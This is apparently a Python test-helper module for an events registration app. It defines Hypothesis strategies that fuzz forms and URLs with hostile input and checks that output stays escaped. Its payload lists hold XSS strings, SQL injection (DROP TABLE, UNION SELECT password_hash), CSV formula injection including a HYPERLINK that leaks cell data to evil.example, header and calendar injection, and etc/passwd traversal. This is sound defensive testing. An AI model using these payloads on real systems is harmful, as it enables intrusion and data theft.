"""Hypothesis strategies for hostile input, and the checks the hostile tests share.

The strategies throw what an attacker or a broken client would send: huge strings,
control characters, bidirectional overrides, markup meant to run in a page, spreadsheet
formulas, SQL fragments, calendar and mail header injections, wrong types (several values
for one field, numbers for text), missing and unknown fields, and raw bytes that are not
UTF-8 at all.
"""

import re
from html.parser import HTMLParser
from urllib.parse import quote

import sqlalchemy as sa
from hypothesis import HealthCheck, settings
from hypothesis import strategies as st

from eventsreg.extensions import db


def hostile_settings(max_examples: int = 30) -> settings:
    """Settings of every hostile test: reproducible in CI, no deadline, shared fixtures.

    ``derandomize=True`` makes each run try the same examples, so a failure in CI is a
    failure on every machine; the fixtures are function-scoped on purpose (one app and
    one database per test, state accumulating across examples).
    """
    return settings(
        max_examples=max_examples,
        deadline=None,
        derandomize=True,
        database=None,
        print_blob=True,
        suppress_health_check=[
            HealthCheck.function_scoped_fixture,
            HealthCheck.too_slow,
            HealthCheck.data_too_large,
            HealthCheck.large_base_example,
        ],
    )


#: Markup meant to run in a page if it came back unescaped. Each carries ``alert(`` or a
#: tag name no template uses, so the checks below recognise it in a response.
MARKUP = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<<script>script>alert(1)<</script>/script>",
    '"><script>alert(1)</script>',
    "'><img src=x onerror=alert(1)>",
    '" onmouseover="alert(1)',
    '<a href="javascript:alert(1)">x</a>',
    "<iframe src=javascript:alert(1)></iframe>",
    "<hostile-tag>",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "<style>*{display:none}</style>",
    "<!--<script>alert(1)//-->",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
]

#: Markdown that tries to smuggle a script or a javascript: link through the renderer.
MARKDOWN = [
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](javascript&#58;alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "![x](javascript:alert(1))",
    "<javascript:alert(1)>",
    "**<script>alert(1)</script>**",
    "> <img src=x onerror=alert(1)>",
    "| a | <svg onload=alert(1)> |\n|---|---|\n| b | c |",
    '[x](https://example.org "a onmouseover=alert(1)")',
    "```\n<script>alert(1)</script>\n```",
    "- [x](vbscript:msgbox(1))",
]

#: Cells a spreadsheet would run as a formula if written as they are.
FORMULAS = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?"&A1,"clic")',
    "+SUM(1,2)",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
    "=1+1",
    "+39 0373 123456",
    "-12,5",
]

SQL = [
    "' OR 1=1 --",
    '"; DROP TABLE registrations; --',
    "1; SELECT pg_sleep(0)",
    "%' OR '%'='",
    "%",
    "_",
    "\\",
    "' UNION SELECT password_hash FROM organizers --",
]

#: Line breaks meant to add properties to a calendar or headers to an email.
INJECTIONS = [
    "x\r\nBEGIN:VEVENT\r\nSUMMARY:injected\r\nEND:VEVENT",
    "x\nEND:VEVENT\nEND:VCALENDAR\nBEGIN:VCALENDAR",
    "x\r\nBcc: victim@example.org",
    "x\nBcc: victim@example.org",
    "x\r\n\r\n<html>injected body",
    "x\rContent-Type: text/html",
    "=?utf-8?q?=0D=0ABcc:_victim@example.org?=",
]

CONTROL = "".join(map(chr, [*range(0, 32), 127, *range(0x80, 0xA0)]))
BIDI = "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u200e\u200f"
INVISIBLE = "\u200b\u200c\u200d\u2060\ufeff\u00ad"

PAYLOADS = MARKUP + MARKDOWN + FORMULAS + SQL + INJECTIONS

odd_characters = st.sampled_from(CONTROL + BIDI + INVISIBLE + "<>\"'&%;=+-@\\/`$\u0000")

#: Short text of any Unicode, with odd characters mixed in (no surrogates: not encodable).
short_text = st.text(
    alphabet=st.one_of(
        st.characters(codec="utf-8"),
        odd_characters,
    ),
    max_size=40,
)


@st.composite
def huge_text(draw) -> str:
    """A string of a few hundred KB: one character or a payload repeated."""
    unit = draw(st.sampled_from(["a", "é", "🌞", "<", "\x00", "\u202e", "<script>", "=1+", "%"]))
    size = draw(st.sampled_from([5_000, 70_000, 300_000]))
    return unit * (size // len(unit))


@st.composite
def payload_text(draw) -> str:
    """A known payload, maybe wrapped in random text."""
    payload = draw(st.sampled_from(PAYLOADS))
    if draw(st.booleans()):
        return payload
    return draw(short_text) + payload + draw(short_text)


def hostile_text(huge: bool = True) -> st.SearchStrategy[str]:
    """Adversarial text: mostly short payloads and odd characters, now and then huge."""
    options = [
        payload_text(),
        payload_text(),
        short_text,
        st.sampled_from(["", " ", "0", "-1", "1e308", "10" * 20, "NaN", "null", "true", "[]"]),
        st.integers().map(str),
        st.floats(allow_nan=True, allow_infinity=True).map(repr),
    ]
    if huge:
        options.append(huge_text())
    return st.one_of(options)


#: One value of a field in a form body: text, a number where text was expected, or bytes
#: that are not UTF-8 (werkzeug puts raw bytes into the urlencoded body as they are).
hostile_value = st.one_of(
    hostile_text(),
    st.integers(min_value=-(10**30), max_value=10**30),
    st.binary(max_size=20).filter(lambda b: _is_invalid_utf8(b)),
)


def _is_invalid_utf8(data: bytes) -> bool:
    try:
        data.decode("utf-8")
    except UnicodeDecodeError:
        return True
    return False


@st.composite
def form_bodies(draw, fields: dict[str, st.SearchStrategy | None], extra: bool = True) -> dict:
    """A form body built on *fields* (name → strategy of its good value, or None).

    Each field keeps a good value, takes a hostile one, goes missing, or is sent twice
    (a list: werkzeug sends every value). Unknown fields may be added.
    """
    body: dict[str, object] = {}
    for name, good in fields.items():
        good = good if good is not None else st.just("")
        choice = draw(
            st.sampled_from(["good", "good", "hostile", "hostile", "missing", "duplicate"])
        )
        if choice == "good":
            body[name] = draw(good)
        elif choice == "hostile":
            body[name] = draw(hostile_value)
        elif choice == "duplicate":
            body[name] = draw(st.lists(st.one_of(good, hostile_value), min_size=2, max_size=4))
    if extra and draw(st.booleans()):
        extra_names = st.one_of(short_text.filter(bool), st.sampled_from(list(fields) or ["x"]))
        for name in draw(st.lists(extra_names, max_size=3)):
            body.setdefault(name, draw(hostile_value))
    return body


def encode_body(body: dict) -> bytes:
    """*body* urlencoded by hand, so raw bytes and NUL go out exactly as drawn."""
    parts = []
    for name, value in body.items():
        values = value if isinstance(value, list) else [value]
        for item in values:
            item = item if isinstance(item, bytes) else str(item).encode("utf-8")
            parts.append(quote(name.encode("utf-8"), safe="") + "=" + quote(item, safe=""))
    return "&".join(parts).encode("ascii")


def strings_in(body: dict) -> list[str]:
    """Every text value of *body*."""
    found = []
    for value in body.values():
        for item in value if isinstance(value, list) else [value]:
            if isinstance(item, str):
                found.append(item)
    return found


#: URL path segments: payloads, traversal, NUL, very long, and percent-encoded bytes that
#: are not UTF-8 (already quoted: they go into the URL as they are).
url_segments = st.one_of(
    hostile_text(huge=False).filter(bool).map(lambda s: quote(s.encode("utf-8"), safe="")),
    st.sampled_from(
        [
            "..%2f..%2fetc%2fpasswd",
            "%2e%2e%2f",
            "..",
            "%00",
            "a%00b",
            "%ff%fe",
            "%c3",
            "%e2%80%ae",
            "%0d%0aSet-Cookie:x=1",
            "x" * 5000,
            "%25",
            "-1",
            "0",
            str(10**30),
            "1e3",
        ]
    ),
    st.binary(min_size=1, max_size=12).map(lambda b: quote(b, safe="")),
)


@st.composite
def query_strings(draw, names: list[str]) -> str:
    """A query string: known parameter names with hostile values, duplicates, junk."""
    body = draw(form_bodies({name: None for name in names}))
    if draw(st.integers(0, 9)) == 0:
        return draw(st.sampled_from(["%", "&&&", "=", "a=%ff", "a=%00", "%zz=1", "a" * 5000]))
    return encode_body(body).decode("ascii")


# --- the checks -----------------------------------------------------------------------

_RAW_MARKERS = ("<script", "<img", "<svg o", "<iframe", "<hostile-tag", "<style", "<math", "<a ")


def snapshot() -> dict[str, dict[tuple, dict]]:
    """Every row of every table: table → primary key → column → value."""
    db.session.expire_all()
    rows = {}
    with db.engine.connect() as connection:
        for table in db.metadata.sorted_tables:
            key = list(table.primary_key.columns) or list(table.columns)
            rows[table.name] = {
                tuple(row[c.name] for c in key): dict(row)
                for row in connection.execute(sa.select(table)).mappings()
            }
    return rows


def changes(before: dict, after: dict) -> list[str]:
    """What differs between two snapshots, in words."""
    found = []
    for table, rows in after.items():
        old_rows = before.get(table, {})
        for key in old_rows.keys() - rows.keys():
            found.append(f"{table} {key} deleted")
        for key, row in rows.items():
            if key not in old_rows:
                found.append(f"{table} {key} added")
                continue
            for column, value in row.items():
                if old_rows[key][column] != value:
                    old = old_rows[key][column]
                    found.append(f"{table} {key}.{column}: {old!r:.80} -> {value!r:.80}")
    return found


class _Scanner(HTMLParser):
    """Collects elements and attributes in a page that could only come from input."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.problems: list[str] = []
        self._in_script = False

    def handle_starttag(self, tag, attrs):
        if tag in {"hostile-tag", "iframe", "math", "mglyph"}:
            self.problems.append(f"<{tag}> element")
        if tag == "script":
            self._in_script = True
        for name, value in attrs:
            if name.startswith("on"):
                self.problems.append(f"{name}= attribute on <{tag}>")
            if name in {"href", "src", "action", "formaction"} and value:
                scheme = re.sub(r"[\s\x00-\x1f]", "", value).lower()
                if scheme.startswith(("javascript:", "vbscript:", "data:text")):
                    self.problems.append(f"{name}={value!r} on <{tag}>")

    def handle_endtag(self, tag):
        if tag == "script":
            self._in_script = False

    def handle_data(self, data):
        if self._in_script and "alert(" in data:
            self.problems.append(f"script running {data[:60]!r}")


def unsafe_markup(html: str) -> list[str]:
    """Elements and attributes in *html* that no template writes: they came from input."""
    scanner = _Scanner()
    scanner.feed(html)
    scanner.close()
    return scanner.problems


def assert_nothing_executable(html: str, sent: list[str] = ()) -> None:
    """*html* runs nothing that came in: no injected element or attribute, and no string
    of *sent* holding a tag shows up verbatim."""
    problems = unsafe_markup(html)
    assert not problems, problems
    for value in sent:
        if len(value) > 1000 or not any(m in value.lower() for m in _RAW_MARKERS):
            continue
        for marker in _RAW_MARKERS:
            start = value.lower().find(marker)
            if start >= 0:
                fragment = value[start : start + 25]
                assert fragment not in html, f"{fragment!r} came back unescaped"
